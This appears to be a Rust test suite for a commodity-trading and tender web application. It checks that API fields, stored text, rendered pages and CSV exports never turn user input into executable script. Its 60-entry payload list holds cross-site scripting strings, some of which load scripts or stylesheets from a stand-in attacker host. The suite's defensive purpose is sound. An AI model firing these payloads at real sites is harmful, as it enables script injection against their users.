//! Text that tries to become a program, in every text field of the API, in tables and on every page.

use crate::pages::page;
use crate::seal::after;
use crate::seal::sale::Sale;
use crate::support::{Client, TestApp, Trade, fresh_key, on_each_database};
use diesel::prelude::*;
use pasok::on_backend;
use reqwest::Method;
use serde_json::{Value, json};

/// Sixty ways to smuggle a script through a text.
const PAYLOADS: [&str; 60] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script>",
    "<script\u{a0}>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\u{9}script:alert(1)\">x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)",
    "\" onmouseover=\"alert(1)",
    "` onmouseover=alert(1)",
    "x onmouseover=alert(1)",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
];

/// Every text field that an operation takes: where, what else it needs, and the field.
fn fields(trade: &Trade) -> Vec<(String, Value, &'static str)> {
    let market = trade.stage.market_id;
    let party = json!({"code": "X", "name": "X", "class": "kdmp", "capabilities": ["buyer"]});
    let organisation = format!("/api/v1/organisations/{}", trade.stage.buyer.organisation.id);
    let place = json!({"name": "X", "latitude": "-10.1", "longitude": "123.6"});
    let round = json!({"name": "X", "delivery_from": "2026-01-12", "delivery_to": "2026-01-18", "closes_at": "2026-01-09T08:00:00Z"});
    let offer = json!({"place": trade.stage.seller.place_id, "commodity": "beras_medium", "lot": "X", "price": "13000", "stock": "5",
        "unit": "kg", "day_from": "2026-01-12", "day_to": "2026-01-18"});
    let demand =
        json!({"place": trade.stage.buyer.place_id, "commodity": "beras_medium", "quantity": "5", "unit": "kg"});
    let mut all = Vec::new();
    let mut add = |path: &str, body: &Value, names: &[&'static str]| {
        all.extend(names.iter().map(|name| (path.to_owned(), body.clone(), *name)));
    };
    add("/api/v1/organisations", &party, &["code", "name", "class", "status"]);
    add(&format!("{organisation}/members"), &json!({"name": "X", "role": "ketua"}), &["name", "role"]);
    add("/api/v1/places", &place, &["name", "region_code", "latitude", "longitude", "organisation_id"]);
    add(&format!("/api/v1/markets/{market}/rounds"), &round, &["name", "delivery_from", "closes_at"]);
    add(
        &format!("/api/v1/markets/{market}/offers"),
        &offer,
        &["lot", "commodity", "price", "stock", "unit", "pack", "day_from"],
    );
    add(
        &format!("{}/demands", trade.round),
        &demand,
        &["place", "commodity", "quantity", "unit", "day_to", "price_ceiling"],
    );
    all
}

async fn try_field(client: &Client, path: &str, body: &Value, field: &str, payload: &str) {
    let mut body = body.clone();
    if path.ends_with("/organisations") && field != "code" {
        body["code"] = json!(fresh_key());
    }
    let place = if field.starts_with('/') { body.pointer_mut(field).unwrap() } else { &mut body[field] };
    *place = json!(payload);
    let answer = client.post(path, &body).await;
    assert!(answer.status != 403 && answer.status < 500, "{path} {field}: {}", answer.text);
    assert!(answer.header("content-type").contains("json"), "{path} {field}: {}", answer.header("content-type"));
    assert_eq!(answer.header("x-content-type-options"), "nosniff");
    if answer.status < 300 && !field.starts_with('/') && answer.json().get(field).is_some() {
        assert_eq!(answer.json()[field], payload.trim(), "kept as it is, harmless as JSON");
    }
}

#[test]
fn no_text_field_of_the_api_turns_text_into_a_program() {
    on_each_database(|test| async move {
        let trade = Trade::open(&test).await;
        let stage = &trade.stage;
        for (path, body, field) in fields(&trade) {
            for payload in PAYLOADS {
                let client = match path.rsplit('/').next() {
                    Some("offers") => &stage.seller.client,
                    Some("demands") => &stage.buyer.client,
                    _ => &stage.operator.client,
                };
                try_field(client, &path, &body, field, payload).await;
            }
        }
        for page in ["/", trade.round.trim_start_matches("/api/v1")] {
            let text = test.anyone().get(page).await.expect(200).text;
            for payload in PAYLOADS.iter().filter(|payload| payload.contains('<')) {
                assert!(!text.contains(payload), "{page} has {payload}");
            }
        }
    });
}

#[test]
fn no_text_field_of_a_tender_turns_text_into_a_program() {
    on_each_database(|test| async move {
        let sale = after::proposed(&test).await;
        let operator = &sale.trade.stage.operator.client;
        let loser = &sale.bidders[1].client;
        let lot = json!({"commodity": "beras_medium", "area_name": "X", "day_from": "2026-01-12", "day_to": "2026-01-18",
            "quantity": "65", "unit": "kg", "points": 2, "area": ["X"], "requirements": ["X"], "steps": ["X"]});
        let call = json!({"terms": {"title": "X", "closes_at": "2026-01-08T09:00:00Z", "notes": "X", "documents": ["X"],
            "certificates": ["X"], "who_may_bid": ["X"]}, "lots": [lot]});
        let scenario =
            json!({"scenarios": [{"name": "X", "rules": {"min_class_share": {"classes": ["X"], "min_permille": 1}}}]});
        let complaint = json!({"words": "X"});
        let bid = json!({"terms_version": 1, "recipient": "X", "commitment": "X", "sealed": "X"});
        let document = json!({ "document": sale.document(2, "13000") });
        let complaints = format!("/api/v1/bids/{}/complaints", after::bid_id(loser).await);
        let cases: [(&Client, String, &Value, &[&'static str]); 6] = [
            (
                operator,
                format!("{}/calls", sale.trade.round),
                &call,
                &[
                    "/terms/title",
                    "/terms/notes",
                    "/terms/documents/0",
                    "/terms/certificates/0",
                    "/terms/who_may_bid/0",
                    "/lots/0/area_name",
                    "/lots/0/commodity",
                    "/lots/0/area/0",
                    "/lots/0/unit",
                    "/lots/0/requirements/0",
                    "/lots/0/steps/0",
                ],
            ),
            (
                operator,
                format!("{}/scenarios", sale.trade.round),
                &scenario,
                &["/scenarios/0/name", "/scenarios/0/rules/min_class_share/classes/0"],
            ),
            (loser, complaints, &complaint, &["words"]),
            (loser, sale.at("bids"), &bid, &["sealed", "recipient", "commitment"]),
            (loser, sale.at("bids/counter"), &document, &["/document/place_id", "/document/lines/0/price"]),
            (
                &sale.officers[0],
                sale.at("sittings"),
                &json!({"purpose": "opening", "share": "X"}),
                &["share", "purpose"],
            ),
        ];
        for (client, path, body, fields) in cases {
            for field in fields {
                for payload in PAYLOADS {
                    try_field(client, &path, body, field, payload).await;
                }
            }
        }
    });
}

/// Writes a text into every column that people read on a page, past every check.
fn deface(test: &TestApp, text: &str) {
    test.app
        .write(crate::support::SYSTEM, |work| {
            for (table, column) in [
                ("organisations", "name"),
                ("markets", "name"),
                ("rounds", "name"),
                ("rounds", "failure"),
                ("commodities", "name_id"),
                ("places", "name"),
                ("calls", "title"),
                ("calls", "notes"),
                ("calls", "documents"),
                ("calls", "terms_change"),
                ("calls", "reason"),
                ("lots", "area_name"),
                ("call_seats", "name"),
                ("complaints", "words"),
                ("complaints", "answer"),
                ("scenarios", "name"),
            ] {
                // Names of places are unique within an organisation, so each keeps its id in front.
                let value = if table == "places" { "cast(id AS TEXT) || " } else { "" };
                let quoted = text.replace('\'', "''");
                let sql = format!("UPDATE {table} SET {column} = {value}'{quoted}'");
                on_backend!(&mut *work.connection, inner => diesel::sql_query(&sql).execute(inner))?;
            }
            Ok(())
        })
        .unwrap();
}

/// How often each character that shapes a page occurs.
fn shape(page: &str) -> Vec<usize> {
    ['<', '>', '"', '\'', '`'].iter().map(|mark| page.matches(*mark).count()).collect()
}

#[test]
fn no_page_turns_text_into_a_program() {
    on_each_database(|test| async move {
        let sale = after::proposed(&test).await;
        let (anyone, bidder) = (test.anyone(), &sale.bidders[1].client);
        let words = json!({ "lot": 1, "words": "Kami lebih dekat" });
        let bid = after::bid_id(bidder).await;
        assert_eq!(after::answer_all(&test).await, 1);
        bidder.post(&format!("/api/v1/bids/{bid}/complaints"), &words).await.expect(201);
        let (operator, round_id) = (&sale.trade.stage.operator.client, sale.trade.id());
        let (desk, call) = (format!("/operate/rounds/{round_id}"), format!("/operate/calls/{}", sale.call_id));
        let pages = [
            (&anyone, "/".to_owned()),
            (&anyone, sale.trade.round.trim_start_matches("/api/v1").to_owned()),
            (bidder, "/calls".to_owned()),
            (bidder, format!("/calls/{}", sale.call_id)),
            (bidder, format!("/bids/{bid}")),
            (bidder, format!("/calls/{}/bid", sale.call_id)),
            (bidder, format!("/calls/{}/bid/sheet", sale.call_id)),
            (bidder, format!("/calls/{}/bid/file", sale.call_id)),
            (operator, format!("/calls/{}/patterns", sale.call_id)),
            (operator, "/operate/calls".to_owned()),
            (operator, format!("{desk}/calls/new")),
            (operator, format!("{desk}/scenarios")),
            (operator, call.clone()),
            (operator, format!("{call}/committee")),
            (operator, "/observe".to_owned()),
            (&sale.trade.stage.buyer.client, "/demands".to_owned()),
        ];
        stay_inert(&test, &pages).await;
    });
}

#[test]
fn no_page_of_a_draft_or_of_a_home_turns_text_into_a_program() {
    on_each_database(|test| async move {
        let sale = Sale::draft(&test).await;
        let stage = &sale.trade.stage;
        let operator = test.signed_in(sale.caller.member_id, true);
        let call = format!("/operate/calls/{}", sale.call_id);
        let pages = [
            (&operator, format!("{call}/lots")),
            (&operator, format!("{call}/lots?areas=district")),
            (&operator, call.clone()),
            (&operator, "/home".to_owned()),
            (&operator, format!("/operate/rounds/{}", sale.trade.id())),
            (&stage.buyer.client, "/home".to_owned()),
            (&stage.seller.client, "/home".to_owned()),
            (&stage.seller.client, "/offers".to_owned()),
            (&stage.seller.client, "/offers/new".to_owned()),
        ];
        stay_inert(&test, &pages).await;
    });
}

/// Holds pages to the marks that they have with a harmless word, whatever stands in its place.
async fn stay_inert(test: &TestApp, pages: &[(&Client, String)]) {
    deface(test, "biasa");
    let mut plain = Vec::new();
    for (client, path) in pages {
        let text = page(client, path).await.expect(200).text;
        assert!(text.contains("biasa"), "{path} shows none of it");
        plain.push(shape(&text));
    }
    for payload in PAYLOADS {
        deface(test, payload);
        for ((client, path), plain) in pages.iter().zip(&plain) {
            let text = page(client, path).await.expect(200).text;
            // Not one mark more than with a harmless word: nothing of the text became a tag or left an attribute.
            let marks = shape(&text);
            let allowed = if payload.contains('`') { &marks[..4] } else { &marks[..] };
            assert_eq!(allowed, &plain[..allowed.len()], "{path} with {payload}");
        }
    }
}

#[test]
fn tables_carry_no_programs_in_or_out() {
    on_each_database(|test| async move {
        let trade = Trade::open(&test).await;
        let client = &trade.stage.operator.client;
        for (index, payload) in PAYLOADS.iter().enumerate() {
            let quoted = payload.replace('"', "\"\"");
            for (code, name, place) in
                [(quoted.as_str(), "B", "G"), ("", quoted.as_str(), "G"), ("", "B", quoted.as_str())]
            {
                let code = if code.is_empty() { format!("P{index}-{}", fresh_key()) } else { code.to_owned() };
                let table = format!(
                    "code,name,class,capabilities,place,latitude,longitude\n\"{code}\",\"{name}\",mikro,seller,\"{place}\",-10.1,123.6\n"
                );
                let request =
                    client.request(Method::POST, "/api/v1/imports?kind=parties").header("idempotency-key", fresh_key());
                let answer = client.send(request.header("content-type", "text/csv").body(table)).await;
                assert!(answer.status == 200 || answer.status == 422, "{payload}: {}", answer.text);
            }
        }
        let out = client.get("/api/v1/exports?kind=parties&format=csv").await.expect(200);
        assert!(out.header("content-disposition").starts_with("attachment"));
        let mut cells = 0;
        for record in
            csv::ReaderBuilder::new().from_reader(out.text.trim_start_matches('\u{feff}').as_bytes()).records()
        {
            for cell in &record.unwrap() {
                let is_number = cell.parse::<f64>().is_ok();
                assert!(is_number || !cell.starts_with(['=', '+', '-', '@', '\t']), "{cell}");
                cells += 1;
            }
        }
        assert!(cells > 100, "{cells}");
    });
}
